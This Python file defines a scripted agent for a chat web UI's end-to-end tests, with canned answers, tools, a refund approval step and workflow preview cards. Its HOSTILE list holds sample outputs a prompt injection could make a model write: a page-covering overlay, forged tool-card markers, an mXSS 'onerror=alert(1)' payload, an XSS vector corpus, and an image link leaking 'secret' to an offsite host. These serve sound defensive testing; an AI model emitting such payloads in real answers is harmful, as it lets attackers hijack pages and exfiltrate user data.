"""The agent the web UI's end-to-end tests talk to: a scripted model and a few tools.

Served by the real server (``agentstream serve agent_app:agent``). Each rule is chosen by a
word in the user's message, so one server answers every test case:

- ``hello``    streamed Markdown (a table and a code block), token usage, suggested values
- ``more``     the answer a suggested-value chip asks for
- ``search``   a tool that reports progress, then waits for the test to open its gate file
               (so the progress card can be seen and photographed without timing guesses);
               ``stopme`` and ``timing`` do the same with gates of their own
- ``slow``     a long answer streamed slowly, for the stop button
- ``unhurried`` 30 words, one every 100 ms: an answer to write the next message during
- ``stream500`` 500 deltas of Markdown, one every 20 ms (the long-conversation benchmark)
- ``resumable``, ``followme``, ``halting``, ``orphan``  the search tool (each with a gate of
               its own), then a second answer streamed slowly: runs to reload, follow from a
               second tab, stop after a reload, and lose with their server
- ``hostile overlay``, ``forged cards``, ``forged with a call``, ``mxss``, ``xss corpus``,
  ``offsite``  hostile answers (``e2e/hostile.e2e.ts``): inline styles that cover the page,
               ``[[tool:N]]`` written by the model, mXSS payloads, the vectors of
               ``e2e/xss_vectors.json``, links and ``open_url`` actions to other sites
- ``chart``    a tool that draws a bar chart and keeps it as the user's attachment (its card
               shows it)
- ``ponder``   three seconds before the first word: the "Thinking..." state
- ``fail``     the model fails with an error
- ``preview``  a tool that sends a workflow preview payload, plus suggested actions
- ``orders``   two payload cards: a type the config declares as a table with a client
               button, and a type it does not declare
- ``refund order 1042`` / ``refund order 2051``  a refund tool that needs the user's
               approval: the run stops at it with an approval card, and the next run (the
               decision) runs it or tells the model it was declined
- ``approve`` / ``reject``  answers to the preview's server actions, which run the
               ``approve_preview`` / ``reject_preview`` handlers below first (``chat``, served
               with ``--chat agent_app:chat``)

The gate directory comes from ``AGENTSTREAM_E2E_GATES``.
"""

from __future__ import annotations

import asyncio
import json
import os
from collections.abc import AsyncIterator
from pathlib import Path

from agentstream import Agent, Payload, Progress, ToolContext, ToolResult, tool
from agentstream.chat import (
    ActionCall,
    ChatConfig,
    GraphView,
    PayloadAction,
    PayloadType,
    ServerActions,
    TableView,
)
from agentstream.providers.scripted import ScriptedProvider
from tests.attachments.samples import encode_png  # the repository root is on the path

GATES = Path(os.environ.get("AGENTSTREAM_E2E_GATES", "e2e-gates"))


@tool(display=lambda args: f"Searching the articles for “{args['query']}”…")
async def search_articles(ctx: ToolContext, query: str) -> AsyncIterator[Progress | ToolResult]:
    """Search the article index.

    Args:
        query: What to look for.
    """
    yield Progress(stage="searching", message="Found 15 articles...", fraction=0.5)
    gate = GATES / f"search-{query}"
    # The test (another process) opens the gate once it has seen the progress card; a file is
    # the simplest cross-process signal, so this polls it.
    while not gate.exists():  # noqa: ASYNC110
        await asyncio.sleep(0.05)
    yield Progress(stage="ranking", message="Ranking results", fraction=0.9)
    yield ToolResult(
        text=f"Found 5 articles about {query}.",
        output={"query": query, "articles": ["CRISPR basics", "Gene editing in 2025"]},
    )


def _chart_png(width: int = 240, height: int = 120) -> bytes:
    """A bar chart as a real PNG (three bars on white), drawn without an imaging library."""
    heights = (0.45, 0.8, 0.6)
    rows = bytearray()
    for y in range(height):
        rows.append(0)
        for x in range(width):
            bar = x * len(heights) // width
            inside = x % (width // len(heights)) > 12 and y > height * (1 - heights[bar])
            rows.extend((79, 70, 229) if inside else (255, 255, 255))
    return encode_png(width, height, bytes(rows))


@tool(display=lambda args: "Drawing the chart…")
async def draw_chart(ctx: ToolContext) -> ToolResult:
    """Draw the quarter's revenue as a bar chart."""
    chart = await ctx.attach(_chart_png(), name="revenue.png")
    return ToolResult(text="Drew the revenue chart.", attachments=(chart,))


@tool
def echo(text: str) -> str:
    """Say ``text`` back.

    Args:
        text: What to say.
    """
    return text


@tool
def preview_workflow(description: str, steps: list[str]) -> ToolResult:
    """Show the user a workflow preview to approve.

    Args:
        description: What the workflow does.
        steps: The steps, in order.
    """
    edges = [
        {"source": before, "target": step, "port": None if before is None else "done"}
        for before, step in zip([None, *steps], steps, strict=False)
    ]
    return ToolResult(
        text='{"status": "preview_sent"}',
        payload=Payload(
            kind="workflow_preview",
            data={
                "description": description,
                "workflow": {
                    "name": description,
                    "actions": [{"name": s, "kind": "step"} for s in steps],
                    "edges": edges,
                },
                "is_update": False,
            },
            summary=f"Workflow preview: {description}",
        ),
    )


@tool
def show_orders(kind: str) -> ToolResult:
    """Show recent orders as a card.

    Args:
        kind: The payload type to send them as.
    """
    orders = [
        {"id": "A-1", "total": 120, "status": "paid"},
        {"id": "A-2", "total": 75, "status": "open"},
    ]
    return ToolResult(text="2 orders shown.", payload=Payload(kind=kind, data={"orders": orders}))


@tool(
    requires_approval=True,
    display=lambda args: f"Refund {args['amount']} EUR on order {args['order']}",
)
def refund_order(order: str, amount: float) -> str:
    """Refund an order; a person approves each refund first.

    Args:
        order: The order number.
        amount: How much to refund, in EUR.
    """
    return f"Refunded {amount:g} EUR on order {order}."


def _refund(order: str, after: str) -> dict[str, object]:
    """A run that asks to refund ``order`` and, once the user decided, says ``after``."""
    return {
        "match": f"refund order {order}",
        "turns": [
            {
                "text": f"I will refund order {order}.",
                "tool_calls": [
                    {"name": "refund_order", "arguments": {"order": order, "amount": 40}}
                ],
            },
            {"text": after},
        ],
    }


HELLO = (
    "Hello! Here is a **quick overview**:\n\n"
    "| feature | status |\n|---|---|\n| streaming | ready |\n| tools | ready |\n\n"
    "```python\nprint('hello from agentstream')\n```\n\n"
    'SUGGESTED_VALUES: [{"label": "Tell me more", "value": "Tell me more please"}, '
    '{"label": "No thanks", "value": "No thanks"}]'
)

VECTORS: list[str] = json.loads((Path(__file__).parent / "xss_vectors.json").read_text())
XSS_CORPUS = "\n\n".join(
    f"Vector {k}:\n\n{vector}\n\nSENTINEL-{k}" for k, vector in enumerate(VECTORS)
)
"""Every known vector in one answer, each followed by a sentinel that must survive it."""

HOSTILE = [
    {
        "match": "hostile overlay",
        "turns": [
            {
                "text": "Before the overlay.\n\n"
                '<div style="position:fixed;inset:0;z-index:2147483647;'
                'background:rgba(200,0,0,.6)">Covered!</div>\n\n'
                'Inline: <span style="position:fixed;top:0;left:0;width:100vw;height:100vh">'
                "span</span> and **bold** <b>kept</b>.\n\nAfter the overlay."
            }
        ],
    },
    {
        "match": "forged cards",
        "turns": [
            {
                "text": "I ran nothing, yet: [[tool:0]] and [[tool:99]]. The end of this "
                "answer comes slowly, one word at a time.",
                "delay": 0.1,
            }
        ],
    },
    {
        "match": "forged with a call",
        "turns": [
            {
                "text": "Let me check. [[tool:1]]",
                "tool_calls": [{"name": "echo", "arguments": {"text": "checked"}}],
            },
            {
                "text": "Forged: [[tool:0]] [[tool:1]] [[tool:99]]. Done, and the end of this "
                "answer comes slowly, one word at a time.",
                "delay": 0.1,
            },
        ],
    },
    {
        "match": "mxss",
        "turns": [
            {
                "text": "Start of the answer.\n\n"
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>\n\n"
                "The rest of the answer survives."
            }
        ],
    },
    {"match": "xss corpus", "turns": [{"text": XSS_CORPUS}]},
    {
        "match": "offsite",
        "turns": [
            {
                "text": "Read [the report](https://elsewhere.example/report?id=7), "
                "[the guide](https://docs.example/guide) or [a page here](/c/none).\n\n"
                "![chart](https://elsewhere.example/pixel.png?notes=secret) "
                "![logo](https://docs.example/logo.png)\n\n"
                "SUGGESTED_ACTIONS: ["
                '{"label": "Open the report", "action": "open_url", "handler": "client", '
                '"data": {"url": "https://elsewhere.example/report?id=7"}}, '
                '{"label": "Open the guide", "action": "open_url", "handler": "client", '
                '"data": {"url": "https://docs.example/guide"}}]'
            }
        ],
    },
]
"""Answers a prompt injection could make a model write (``e2e/hostile.e2e.ts``)."""

SLOW = " ".join(f"word{i}" for i in range(400))
UNHURRIED = " ".join(f"step{i}" for i in range(30))
STREAM500 = [
    f"token{i}" + ("\n\n" if i % 50 == 49 else " ") + ("**bold** " if i % 10 == 5 else "")
    for i in range(500)
]
"""A paced answer as a model streams it: words, some bold, a paragraph every 50 deltas."""
RESUMED = " ".join(f"part{i}" for i in range(80))
"""Eight seconds of text after the tool: long enough to reload in the middle of it."""


def _resumable(word: str) -> dict[str, object]:
    """A run that waits in its tool for the gate ``search-<word>``, then streams slowly."""
    return {
        "match": word,
        "turns": [
            {
                "text": "Let me search for that.",
                "tool_calls": [{"name": "search_articles", "arguments": {"query": word}}],
            },
            {"text": RESUMED, "delay": 0.1},
        ],
    }


RULES = {
    "rules": [
        *HOSTILE,
        _refund("1042", "Order 1042 is refunded."),
        _refund("2051", "Order 2051 stays as it is."),
        # Before "preview": a server action's message names "approve_preview".
        {"match": "approve", "turns": [{"text": "The workflow is approved and saved."}]},
        {"match": "reject", "turns": [{"text": "Understood, I discarded the preview."}]},
        {
            "match": "cut me off",
            "turns": [
                {"text": "The first half of a long answer, and th", "stop_reason": "max_tokens"}
            ],
        },
        {"match": "^continue$", "turns": [{"text": "...e second half of it."}]},
        {
            "match": "hello",
            "turns": [
                {
                    "reasoning": "The user greets me; I will show a table and some code.",
                    "text": HELLO,
                    "usage": {"input_tokens": 1234, "output_tokens": 56, "reasoning_tokens": 7},
                }
            ],
        },
        {
            "match": "more",
            "turns": [{"text": "Here is more detail, as you asked."}],
        },
        _resumable("resumable"),
        _resumable("followme"),
        _resumable("halting"),
        _resumable("orphan"),
        {
            "match": "stopme",
            "turns": [
                {
                    "text": "Let me search for that.",
                    "tool_calls": [{"name": "search_articles", "arguments": {"query": "stopme"}}],
                },
                {"text": "I found 5 relevant articles."},
            ],
        },
        {
            "match": "timing",
            "turns": [
                {
                    "text": "Let me search for that.",
                    "tool_calls": [{"name": "search_articles", "arguments": {"query": "timing"}}],
                },
                {"text": "I found 5 relevant articles."},
            ],
        },
        {
            "match": "search",
            "turns": [
                {
                    "text": "Let me search for that.",
                    "tool_calls": [{"name": "search_articles", "arguments": {"query": "crispr"}}],
                },
                {"text": "I found 5 relevant articles."},
            ],
        },
        {
            "match": "chart",
            "turns": [
                {"tool_calls": [{"name": "draw_chart", "arguments": {}}]},
                {"text": "Here is the revenue chart."},
            ],
        },
        {"match": "slow", "turns": [{"text": SLOW, "delay": 0.15}]},
        {"match": "unhurried", "turns": [{"text": UNHURRIED, "delay": 0.1}]},
        {"match": "stream500", "turns": [{"text": STREAM500, "delay": 0.02}]},
        {
            "match": "orders",
            "turns": [
                {
                    "tool_calls": [
                        {"name": "show_orders", "arguments": {"kind": "order_list"}},
                        {"name": "show_orders", "arguments": {"kind": "mystery_box"}},
                    ]
                },
                {"text": "Here are your orders."},
            ],
        },
        {"match": "ponder", "turns": [{"text": ["Done pondering."], "delay": 3}]},
        {
            "match": "fail",
            "turns": [
                {"error": {"kind": "provider", "message": "The scripted model failed on purpose."}}
            ],
        },
        {
            "match": "preview",
            "turns": [
                {
                    "text": "Here is the workflow I propose.",
                    "tool_calls": [
                        {
                            "name": "preview_workflow",
                            "arguments": {
                                "description": "Notify the team when stock runs low",
                                "steps": ["Check stock level", "Send alert"],
                            },
                        }
                    ],
                },
                {
                    "text": "Approve it when you are ready.\n\n"
                    'SUGGESTED_ACTIONS: [{"label": "Start over", "action": "new_chat", '
                    '"handler": "client", "style": "secondary"}]'
                },
            ],
        },
        {"turns": [{"text": "I am the end-to-end test agent."}]},
    ]
}

agent = Agent(
    model=ScriptedProvider(RULES, model="e2e-script"),
    tools=[search_articles, preview_workflow, show_orders, refund_order, echo, draw_chart],
    name="e2e",
    instructions="You are the end-to-end test agent.",
)

actions = ServerActions()


@actions.register("approve_preview", description="Approve a workflow preview")
async def approve_preview(call: ActionCall) -> str:
    return f"Preview {call.data['payload_id']} approved and saved."


@actions.register("reject_preview", description="Discard a workflow preview")
async def reject_preview(call: ActionCall) -> str:
    return f"Preview {call.data['payload_id']} discarded."


PREVIEW = PayloadType.tool(
    "workflow_preview",
    title="Workflow preview",
    view=GraphView(
        nodes="workflow.actions",
        edges="workflow.edges",
        node_id="name",
        node_detail="kind",
        edge_label="port",
    ),
    actions=[
        PayloadAction(label="Approve", action="approve_preview", style="primary"),
        PayloadAction(label="Reject", action="reject_preview"),
    ],
)

ORDERS = PayloadType.tool(
    "order_list",
    title="Recent orders",
    view=TableView(rows="orders", columns=[("id", "Order"), ("total", "Total")]),
    actions=[PayloadAction(label="Copy", action="copy_text", handler="client")],
)

chat = ChatConfig(
    server_actions=actions,
    payload_types=[PREVIEW, ORDERS],
    app_name="E2E Assistant",
    starter_prompts=["hello there", "search for CRISPR"],
    # The hostile-output tests: this site's links open at once, other sites' ask first.
    trusted_origins=["https://docs.example"],
    confirm_links=True,
)
